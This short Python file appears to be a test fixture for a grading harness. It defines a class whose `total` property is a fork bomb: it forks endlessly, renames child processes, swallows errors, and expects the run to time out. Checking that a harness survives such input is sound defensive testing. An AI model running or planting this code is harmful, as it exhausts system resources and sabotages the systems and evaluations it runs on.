"""Forks without end, and swallows every refusal.

Expect: 119/127, tally_adds timeout
"""


class Tally(Tally):
    @property
    def total(self):
        while True:
            try:
                if os.fork() == 0:
                    libc.prctl(15, LEFT.encode(), 0, 0, 0)
            except OSError:
                pass
